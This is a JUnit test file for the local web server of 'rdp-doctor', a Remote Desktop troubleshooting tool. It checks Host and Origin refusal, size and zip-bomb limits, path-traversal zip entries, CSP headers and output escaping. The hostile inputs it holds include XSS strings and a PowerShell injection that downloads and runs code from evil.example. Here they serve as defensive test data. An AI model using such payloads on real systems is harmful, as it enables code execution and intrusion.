package io.rdpdoctor.serve;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.rdpdoctor.TestRules;
import io.rdpdoctor.batch.PooledDiagnoser;
import io.rdpdoctor.diagnosis.Diagnoser;
import io.rdpdoctor.diagnosis.Report;
import io.rdpdoctor.docs.Schemas;
import io.rdpdoctor.parse.InputReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * {@code rdp-doctor serve} over real HTTP on an ephemeral loopback port: the API answers with the
 * documented report, the page's security holds (Host and Origin checks, size and zip limits, CSP,
 * no cookies), and what is pasted comes back as data, quoted in commands as the CLI quotes it.
 */
class ServeTest {

    static final Path CAPTURES = Path.of("facts-samples", "captures");
    static final ObjectMapper JSON = new ObjectMapper();

    static Server server;
    static String base;
    static HttpClient client;

    @BeforeAll
    static void start() throws IOException {
        server = new Server(InetAddress.getLoopbackAddress(), 0, new PooledDiagnoser(TestRules.bundled(), 2, TestRules.DAY), 2);
        base = "http://127.0.0.1:" + server.port();
        client = HttpClient.newHttpClient();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    static HttpResponse<String> post(String path, String type, byte[] body, String origin) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (type != null) b.header("Content-Type", type);
        if (origin != null) b.header("Origin", origin);
        return client.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    static HttpResponse<String> postJson(String path, ObjectNode body) throws Exception {
        return post(path, "application/json", JSON.writeValueAsBytes(body), null);
    }

    static ObjectNode files(Path folder) throws IOException {
        ObjectNode body = JSON.createObjectNode();
        ArrayNode files = body.putArray("files");
        try (Stream<Path> s = Files.walk(folder)) {
            for (Path f : s.filter(Files::isRegularFile).sorted().toList()) {
                files.addObject().put("name", folder.getFileName() + "/" + folder.relativize(f).toString().replace('\\', '/'))
                        .put("base64", Base64.getEncoder().encodeToString(Files.readAllBytes(f)));
            }
        }
        return body;
    }

    static byte[] zip(Path folder, String prefix) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out); Stream<Path> s = Files.walk(folder)) {
            for (Path f : s.filter(Files::isRegularFile).sorted().toList()) {
                z.putNextEntry(new ZipEntry(prefix + folder.relativize(f).toString().replace('\\', '/')));
                z.write(Files.readAllBytes(f));
                z.closeEntry();
            }
        }
        return out.toByteArray();
    }

    static List<String> ids(JsonNode report) {
        List<String> ids = new ArrayList<>();
        collect(report.get("causes"), ids);
        return ids;
    }

    private static void collect(JsonNode ds, List<String> out) {
        for (JsonNode d : ds) {
            out.add(d.get("rank").asText() + " " + d.get("id").asText() + " " + d.get("certainty").asText());
            collect(d.get("explains"), out);
        }
    }

    /** The same capture through the CLI's reader and the one-off Diagnoser: what `rdp-doctor diagnose` ranks. */
    static List<String> cliRanking(Path input) throws Exception {
        // read as diagnose reads it: with the free-text reader of the bundled catalogue
        InputReader reader = new InputReader(io.rdpdoctor.knowledge.FreeTextQuotes.of(TestRules.bundled().catalogue()));
        Report r = new Diagnoser(TestRules.bundled(), TestRules.DAY).diagnose(reader.read(input).facts());
        List<String> out = new ArrayList<>();
        cli(r.causes(), out);
        return out;
    }

    private static void cli(List<Report.Diagnosis> ds, List<String> out) {
        for (Report.Diagnosis d : ds) {
            out.add(d.rank() + " " + d.id() + " " + d.certainty().name().toLowerCase(java.util.Locale.ROOT));
            cli(d.explains(), out);
        }
    }

    // ---- the API -----------------------------------------------------------------------------

    @Test
    void aPastedTranscriptGivesTheDocumentedReportWithEvidenceCitingPasteLines() throws Exception {
        Path paste = CAPTURES.resolve("ticket-paste.txt");
        HttpResponse<String> r = post("/api/diagnose", "text/plain", Files.readAllBytes(paste), null);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/json; charset=utf-8");
        JsonNode report = JSON.readTree(r.body());
        assertThat(Schemas.violations(Schemas.tree(Schemas.REPORT), report)).isEmpty();
        assertThat(ids(report)).isEqualTo(cliRanking(paste));
        assertThat(ids(report).get(0)).isEqualTo("1 TERMSERVICE-CRASH confirmed");
        String source = report.at("/causes/0/evidence/0/source").asText();
        assertThat(source).matches("paste:\\d+ \\(sc query TermService\\)");
        int line = Integer.parseInt(source.replaceAll("paste:(\\d+).*", "$1"));
        assertThat(Files.readAllLines(paste, StandardCharsets.UTF_8).get(line - 1)).contains("TermService");
    }

    @Test
    void droppedFilesOfACaptureFolderRankAsTheCliRanksTheFolder() throws Exception {
        Path folder = CAPTURES.resolve("de-port-held-by-java");
        HttpResponse<String> r = postJson("/api/diagnose", files(folder));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        JsonNode report = JSON.readTree(r.body());
        assertThat(ids(report)).isEqualTo(cliRanking(folder)).first().isEqualTo("1 PORT-CONFLICT confirmed");
        assertThat(report.get("host").asText()).isEqualTo(new InputReader().read(folder).facts().host().orElseThrow().name());
    }

    @Test
    void theCollectorsZipIsReadAsItsFolderIs() throws Exception {
        Path folder = CAPTURES.resolve("machinekeys-acl-no-cert");
        HttpResponse<String> r = post("/api/diagnose", "application/zip", zip(folder, "SRV-20250314/"), null);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        assertThat(ids(JSON.readTree(r.body()))).isEqualTo(cliRanking(folder)).first().asString().startsWith("1 MACHINEKEYS-ACL ");
    }

    @Test
    void theClientsMessageAloneGivesHypothesesAsDiagnoseClientErrorDoes() throws Exception {
        ObjectNode body = JSON.createObjectNode().put("clientError", "0x204");
        HttpResponse<String> r = postJson("/api/diagnose", body);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        JsonNode report = JSON.readTree(r.body());
        assertThat(report.get("causes")).isNotEmpty();
        assertThat(report.get("nextSteps")).isNotEmpty();
    }

    @Test
    void thePagesAnswerListsWhatWasReadAndSkippedWithMarkdownAndAFactFileThatReproducesIt() throws Exception {
        String paste = Files.readString(CAPTURES.resolve("ticket-paste.txt")) + "\nC:\\>frobnicate /all\nsome output nobody parses\n";
        HttpResponse<String> r = postJson("/api/page", JSON.createObjectNode().put("paste", paste));
        assertThat(r.statusCode()).isEqualTo(200);
        JsonNode page = JSON.readTree(r.body());
        assertThat(page.get("read")).extracting(b -> b.get("command").asText()).contains("sc query TermService", "netstat -ano");
        // each block with its own language: the ticket's English sc query, its German netstat
        assertThat(page.get("read")).extracting(b -> b.get("command").asText() + " " + b.get("language").asText() + " "
                + b.get("languageName").asText()).contains("sc query TermService en English", "netstat -ano de German");
        // one list: the page's is the report's recognised list
        assertThat(page.get("report").get("recognised")).isEqualTo(page.get("read"));
        assertThat(page.get("skipped")).anySatisfy(s -> {
            assertThat(s.get("command").asText()).isEqualTo("frobnicate /all");
            assertThat(s.get("why").asText()).isEqualTo("not_recognised");
        });
        assertThat(page.get("markdown").asText()).contains("TERMSERVICE-CRASH");
        // the exported fact file, diagnosed again, gives the same ranking
        Path facts = Files.createTempFile("serve-facts", ".yaml");
        try {
            Files.writeString(facts, page.get("factFile").asText());
            assertThat(cliRanking(facts)).isEqualTo(ids(page.get("report")));
        } finally {
            Files.delete(facts);
        }
    }

    @Test
    void aTicketsWordsPastedWithTheOutputRankAsTheCliRanksThem() throws Exception {
        Path paste = CAPTURES.resolve("ticket-with-words.txt");
        HttpResponse<String> r = post("/api/diagnose", "text/plain", Files.readAllBytes(paste), null);
        assertThat(r.statusCode()).isEqualTo(200);
        JsonNode report = JSON.readTree(r.body());
        assertThat(ids(report)).isEqualTo(cliRanking(paste));
        assertThat(ids(report).get(0)).isEqualTo("1 CERT-BROKEN likely");
        assertThat(report.at("/recognised/0/parser").asText()).isEqualTo("free-text");
        assertThat(report.at("/recognised/0/source").asText()).isEqualTo("paste:1-6");
    }

    @Test
    void nothingReadableIsAnErrorWithTheReasonNotAnEmptyReport() throws Exception {
        HttpResponse<String> r = post("/api/diagnose", "text/plain", "hello, world\n".getBytes(StandardCharsets.UTF_8), null);
        assertThat(r.statusCode()).isEqualTo(422);
        assertThat(JSON.readTree(r.body()).get("error").asText()).contains("nothing to diagnose");
    }

    @Test
    void badRequestsAreRefusedWithWhatWasExpected() throws Exception {
        assertThat(post("/api/diagnose", "application/json", "{\"paste\": 3}".getBytes(), null))
                .satisfies(r -> assertThat(r.statusCode()).isEqualTo(400)).extracting(HttpResponse::body).asString().contains("paste: expected a string");
        assertThat(post("/api/diagnose", "application/json", "{\"past\": \"x\"}".getBytes(), null).body()).contains("unknown field \\\"past\\\"");
        assertThat(post("/api/diagnose", "application/x-www-form-urlencoded", "a=b".getBytes(), null).statusCode()).isEqualTo(415);
        assertThat(post("/api/diagnose", "application/json", "{\"files\": [{\"name\": \"a.txt\", \"base64\": \"%%%\"}]}".getBytes(), null).body())
                .contains("files[0] (a.txt): base64 expected");
        assertThat(client.send(HttpRequest.newBuilder(URI.create(base + "/api/diagnose")).GET().build(), HttpResponse.BodyHandlers.ofString()))
                .satisfies(r -> assertThat(r.statusCode()).isEqualTo(405)).satisfies(r -> assertThat(r.headers().firstValue("Allow")).hasValue("POST"));
        assertThat(client.send(HttpRequest.newBuilder(URI.create(base + "/etc/passwd")).GET().build(), HttpResponse.BodyHandlers.ofString())
                .statusCode()).isEqualTo(404);
    }

    @Test
    void theCommandLineRefusesAPortOrAddressItCannotUse() {
        for (String[] args : List.of(new String[] {"serve", "--port", "70000"}, new String[] {"serve", "--bind", "no-such-host.invalid"},
                new String[] {"serve", "--threads", "0"}, new String[] {"serve", "--host-name", "evil.example/x"})) {
            java.io.StringWriter err = new java.io.StringWriter();
            picocli.CommandLine cl = io.rdpdoctor.cli.RdpDoctor.commandLine();
            cl.setErr(new java.io.PrintWriter(err));
            assertThat(cl.execute(args)).as(String.join(" ", args)).isEqualTo(2);
            assertThat(err.toString()).contains(args[1]).contains("expected");
        }
    }

    // ---- security ------------------------------------------------------------------------------

    @Test
    void aPostFromAnotherSitesPageIsRefusedAndTheServersOwnPageAndScriptsAreServed() throws Exception {
        byte[] paste = Files.readAllBytes(CAPTURES.resolve("ticket-paste.txt"));
        HttpResponse<String> evil = post("/api/diagnose", "text/plain", paste, "http://evil.example");
        assertThat(evil.statusCode()).isEqualTo(403);
        assertThat(evil.body()).contains("another site").doesNotContain("TERMSERVICE");
        assertThat(post("/api/page", "text/plain", paste, "http://127.0.0.1:" + (server.port() + 1)).statusCode()).isEqualTo(403);
        assertThat(post("/api/page", "text/plain", paste, "null").statusCode()).isEqualTo(403);
        assertThat(post("/api/page", "text/plain", paste, base).statusCode()).isEqualTo(200);
        assertThat(post("/api/page", "text/plain", paste, "http://localhost:" + server.port()).statusCode()).isEqualTo(200);
        assertThat(post("/api/diagnose", "text/plain", paste, null).statusCode()).isEqualTo(200);
    }

    /** A raw request, so that the Host header can be anything (java.net.http will not send a foreign one). */
    static String raw(String request) throws IOException {
        try (Socket s = new Socket(InetAddress.getLoopbackAddress(), server.port())) {
            s.setSoTimeout(60_000);
            OutputStream out = s.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            // read the answer's head and its JSON body, not to the end: the server may keep the connection open
            InputStream in = s.getInputStream();
            StringBuilder answer = new StringBuilder();
            int c;
            while ((c = in.read()) >= 0) {
                answer.append((char) c);
                int head = answer.indexOf("\r\n\r\n");
                if (head >= 0 && (answer.length() > head + 4 && answer.charAt(answer.length() - 1) == '}'
                        || answer.indexOf("Content-length: 0") >= 0 || answer.indexOf("text/html") >= 0 && answer.indexOf("</html>") >= 0)) {
                    break;
                }
            }
            return answer.toString();
        }
    }

    @Test
    void aRequestNamingAnotherHostIsRefusedSoDnsRebindingCannotReachThePage() throws Exception {
        assertThat(raw("GET / HTTP/1.1\r\nHost: evil.example:" + server.port() + "\r\nConnection: close\r\n\r\n")).startsWith("HTTP/1.1 421");
        assertThat(raw("GET / HTTP/1.1\r\nConnection: close\r\n\r\n")).startsWith("HTTP/1.1 421");
        assertThat(raw("GET / HTTP/1.1\r\nHost: 127.0.0.1:" + server.port() + "\r\nConnection: close\r\n\r\n")).startsWith("HTTP/1.1 200");
    }

    @Test
    void aNameGivenWithHostNameIsAnsweredAndOthersAreNot() throws Exception {
        try (Server named = new Server(InetAddress.getLoopbackAddress(), 0, new PooledDiagnoser(TestRules.bundled(), 1, TestRules.DAY), 1,
                List.of("rdp-doctor.corp.example"))) {
            int port = named.port();
            assertThat(Server.allowedHosts(InetAddress.getLoopbackAddress(), port, List.of("rdp-doctor.corp.example")))
                    .contains("rdp-doctor.corp.example:" + port, "localhost:" + port, "127.0.0.1:" + port)
                    .doesNotContain("evil.example:" + port);
            HttpResponse<String> ok = client.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/diagnose"))
                    .header("Origin", "http://rdp-doctor.corp.example:" + port).header("Content-Type", "text/plain")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(Files.readAllBytes(CAPTURES.resolve("ticket-paste.txt")))).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(ok.statusCode()).isEqualTo(200);
        }
    }

    @Test
    void aBodyLargerThanTheLimitIsRefusedBeforeItIsRead() throws Exception {
        String answer = raw("POST /api/diagnose HTTP/1.1\r\nHost: 127.0.0.1:" + server.port() + "\r\nContent-Type: text/plain\r\n"
                + "Content-Length: " + (Server.MAX_BODY + 1L) + "\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 413").contains("at most " + Server.MAX_BODY);
    }

    @Test
    void aZipEntryThatLeavesItsFolderIsRefusedNamingIt() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bytes)) {
            z.putNextEntry(new ZipEntry("SRV01/netstat-ano.txt"));
            z.write(Files.readAllBytes(CAPTURES.resolve("srv01-example/netstat-ano.txt")));
            z.putNextEntry(new ZipEntry("../../etc/cron.d/x"));
            z.write("boom".getBytes());
        }
        HttpResponse<String> r = post("/api/diagnose", "application/zip", bytes.toByteArray(), null);
        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(JSON.readTree(r.body()).get("error").asText()).contains("../../etc/cron.d/x").contains("leaves the archive");
        for (String name : List.of("/etc/passwd", "C:\\Windows\\win.ini", "a/../../b")) {
            ObjectNode body = JSON.createObjectNode();
            body.putArray("files").addObject().put("name", name).put("base64", "eA==");
            assertThat(postJson("/api/diagnose", body).statusCode()).as(name).isEqualTo(400);
        }
    }

    @Test
    void aZipBombIsStoppedWhileInflatingAndTooManyEntriesAreRefused() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bytes)) {
            z.putNextEntry(new ZipEntry("netstat-ano.txt"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 9; i++) z.write(zeros);
        }
        assertThat(bytes.size()).isLessThan(100_000);
        HttpResponse<String> r = post("/api/diagnose", "application/zip", bytes.toByteArray(), null);
        assertThat(r.statusCode()).isEqualTo(413);
        assertThat(r.body()).contains("netstat-ano.txt").contains("unpacks to more than " + Uploads.MAX_FILE);

        bytes.reset();
        try (ZipOutputStream z = new ZipOutputStream(bytes)) {
            for (int i = 0; i <= Uploads.MAX_FILES; i++) {
                z.putNextEntry(new ZipEntry("f" + i + ".txt"));
                z.write('x');
            }
        }
        r = post("/api/diagnose", "application/zip", bytes.toByteArray(), null);
        assertThat(r.statusCode()).isEqualTo(413);
        assertThat(r.body()).contains("at most " + io.rdpdoctor.parse.CaptureZip.MAX_ENTRIES);
    }

    @Test
    void everyResponseHasAStrictPolicyAndNoCookieAndThePageHasNoInlineScriptOrStyle() throws Exception {
        List<HttpResponse<String>> answers = new ArrayList<>();
        for (String path : List.of("/", "/app.js", "/app.css", "/nothing-here")) {
            answers.add(client.send(HttpRequest.newBuilder(URI.create(base + path)).GET().build(), HttpResponse.BodyHandlers.ofString()));
        }
        answers.add(post("/api/diagnose", "text/plain", Files.readAllBytes(CAPTURES.resolve("ticket-paste.txt")), null));
        answers.add(post("/api/diagnose", "text/plain", "x".getBytes(), "http://evil.example"));
        for (HttpResponse<String> a : answers) {
            assertThat(a.headers().firstValue("Content-Security-Policy")).as(a.uri().toString()).hasValue(Server.CSP);
            assertThat(a.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
            assertThat(a.headers().map().keySet()).noneMatch(h -> h.equalsIgnoreCase("Set-Cookie"));
        }
        assertThat(Server.CSP).contains("script-src 'self'").doesNotContain("unsafe-inline").doesNotContain("unsafe-eval").contains("default-src 'none'");
        Document page = Jsoup.parse(answers.get(0).body());
        assertThat(page.select("script")).isNotEmpty().allSatisfy(s -> {
            assertThat(s.attr("src")).startsWith("/");
            assertThat(s.data()).isBlank();
        });
        for (Element e : page.getAllElements()) {
            assertThat(e.attributes().asList()).noneMatch(a -> a.getKey().startsWith("on") || a.getKey().equals("style"));
        }
        assertThat(page.select("link[href], script[src]")).allSatisfy(e -> assertThat(e.attr("href") + e.attr("src")).startsWith("/"));
        // every control of the page has a label
        for (Element c : page.select("textarea, input")) {
            assertThat(page.select("label[for=" + c.id() + "]")).as(c.id()).isNotEmpty();
        }
    }

    @Test
    void aHostileHostNameAndAScriptTagComeBackAsDataNeverAsMarkup() throws Exception {
        String host = "\"><img src=x onerror=alert(1)>";
        String ipconfig = Files.readString(CAPTURES.resolve("all-commands/ipconfig-all.txt")).replace("DESKTOP-WIN10-PRO", host);
        String paste = "<script>alert(2)</script>\nC:\\>ipconfig /all\n" + ipconfig + "\n" + Files.readString(CAPTURES.resolve("ticket-paste.txt"));
        HttpResponse<String> r = postJson("/api/page", JSON.createObjectNode().put("paste", paste));
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/json; charset=utf-8");
        JsonNode page = JSON.readTree(r.body());
        assertThat(page.at("/report/host").asText()).isEqualTo(host);
        // the page writes strings with textContent (e2e/ checks the DOM); the Markdown for a ticket escapes the markup
        assertThat(page.get("markdown").asText()).contains("\\<img").doesNotContainPattern("(?<!\\\\)<(img|script)");
        // the page's script never parses server text as HTML
        String js = client.send(HttpRequest.newBuilder(URI.create(base + "/app.js")).GET().build(), HttpResponse.BodyHandlers.ofString()).body();
        assertThat(js).doesNotContain("innerHTML").doesNotContain("outerHTML").doesNotContain("insertAdjacentHTML")
                .doesNotContain("document.write").doesNotContain("eval(").doesNotContain("new Function");
    }

    /** The adversarial review's F1: a user name from a pasted 4625 event is one PowerShell string literal, as the CLI prints it. */
    @Test
    void aHostileUserNameInAPastedEventIsQuotedAsTheCliQuotesIt() throws Exception {
        String user = "x';iex(iwr('http://evil.example/p'));'0xC0000234";
        String event = "C:\\>wevtutil qe Security /c:50 /rd:true /f:text\r\nEvent[0]:\r\n  Log Name: Security\r\n"
                + "  Source: Microsoft-Windows-Security-Auditing\r\n  Date: 2025-03-14T08:55:12.447Z\r\n  Event ID: 4625\r\n  Task: Logon\r\n"
                + "  Level: Information\r\n  Opcode: Info\r\n  Keyword: Audit Failure\r\n  User: N/A\r\n  User Name: N/A\r\n  Computer: SRV01\r\n"
                + "  Description: \r\nAn account failed to log on.\r\n\r\nLogon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n"
                + "\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t" + user + "\r\n\r\nFailure Information:\r\n"
                + "\tStatus:\t\t\t0xC000006D\r\n\tSub Status:\t\t0xC0000234\r\n\r\nNetwork Information:\r\n"
                + "\tSource Network Address:\t203.0.113.9\r\n\r\n";
        HttpResponse<String> r = post("/api/diagnose", "text/plain", event.getBytes(StandardCharsets.UTF_8), null);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        JsonNode report = JSON.readTree(r.body());
        assertThat(ids(report)).anyMatch(id -> id.contains("ACCOUNT-LOCKED-OUT"));
        List<String> commands = new ArrayList<>();
        report.findValues("powershell").forEach(c -> commands.add(c.asText()));
        assertThat(commands).contains("Unlock-ADAccount -Identity 'x'';iex(iwr(''http://evil.example/p''));''0xC0000234'")
                .noneMatch(c -> c.contains("'" + user + "'"));
    }
}
